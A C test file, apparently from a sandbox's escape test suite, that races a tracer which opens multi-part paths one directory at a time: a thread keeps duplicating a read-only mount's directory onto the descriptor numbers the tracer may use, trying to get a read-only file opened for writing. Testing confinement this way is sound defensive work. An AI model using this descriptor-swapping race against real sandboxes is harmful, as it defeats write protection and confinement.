/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * Where openat2 is missing a name of several parts is opened part by part, through a descriptor
 * of the tracee's for each directory; another thread puts a directory of a read-only mount
 * under every number that it may get.
 * ATTACK MODES: openat2,landlock openat2
 * ATTACK OPTIONS: -b @OUT@/ro:/ro:ro
 * ATTACK BROKEN: STEPS
 */
#include "escape.h"

static int read_only, first;

static void *flip(void *data)
{
	(void)data;
	for (;;)
		for (int fd = first; fd < first + 3; fd++)
			dup2(read_only, fd);
	return NULL;
}

int main(void)
{
	struct race race = { 0 };
	struct stat wanted, info;

	enter_scratch();
	mkdir("a", 0755);
	make_file("a/file", "free to be written");
	read_only = open("/ro", O_RDONLY | O_DIRECTORY);
	if (read_only < 0 || fstatat(read_only, "file", &wanted, 0) < 0)
		broken("no read-only file");
	first = read_only + 1;
	start(flip, NULL);
	while (racing(&race)) {
		int fd = open("a/file", O_RDWR);

		if (fd >= 0 && fstat(fd, &info) == 0 && info.st_ino == wanted.st_ino &&
		    info.st_dev == wanted.st_dev && (fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDWR)
			escaped("a read-only file is open for writing");
		for (int i = first; i < first + 3; i++)
			close(i);
	}
	contained();
}
